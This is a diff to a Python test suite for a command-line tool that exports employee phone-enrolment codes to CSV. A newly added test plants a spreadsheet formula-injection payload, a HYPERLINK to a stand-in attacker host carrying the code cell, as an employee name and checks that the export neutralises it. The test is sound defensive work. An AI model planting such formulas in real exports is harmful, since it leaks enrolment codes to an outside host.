@@ -73,7 +73,7 @@ def test_demo_prints_how_to_use_it(cli: Any) -> None:
 
 def test_enrolment_code_enrols_a_phone(cli: Any, tmp_path: Path, database_url: str) -> None:
     nip = demo(cli)["employees"][0]["nip"]
-    code = last_line(cli("enrolment-code", nip)[0])
+    code = last_line(cli("enrolment-code", f"\u3000{nip[:8]} {nip[8:]}\xa0")[0])  # as pasted
     assert len(code) == 8
     from backend.settings import load_settings
 
@@ -92,11 +92,39 @@ def test_enrolment_codes_for_everyone_without_a_phone(cli: Any, tmp_path: Path) 
         assert Phone(client).enrol(info["employees"][0]["nip"], first_code).status_code == 201
     target = tmp_path / "codes.csv"
     cli("enrolment-code", "--all", "--csv", str(target))
-    rows = target.read_text().strip().splitlines()
-    assert rows[0] == "nip,name,code"
+    rows = target.read_text(encoding="utf-8-sig").strip().splitlines()
+    assert rows[0] == '"nip","name","code"'
     assert len(rows) == 1 + 19  # everyone but the one with a phone
     assert info["employees"][0]["nip"] not in target.read_text()
     assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
+
+
+def test_enrolment_code_csv_keeps_a_formula_name_text(
+    cli: Any, tmp_path: Path, database_url: str
+) -> None:
+    import asyncio
+    import csv
+
+    from backend.db import make_database
+
+    info = demo(cli)
+    nip = info["employees"][0]["nip"]
+    evil = '=HYPERLINK("http://evil.example/?c="&C2,"klik")'
+
+    async def rename() -> None:
+        db = make_database(database_url)
+        await db.connect()
+        try:
+            await db.execute(employees.update().where(employees.c.nip == nip).values(name=evil))
+        finally:
+            await db.disconnect()
+
+    asyncio.run(rename())
+    target = tmp_path / "codes.csv"
+    cli("enrolment-code", "--all", "--csv", str(target))
+    with target.open(encoding="utf-8-sig", newline="") as f:
+        names = {row["nip"]: row["name"] for row in csv.DictReader(f)}
+    assert names[nip] == "'" + evil
 
 
 def test_display_add_and_token(cli: Any) -> None:
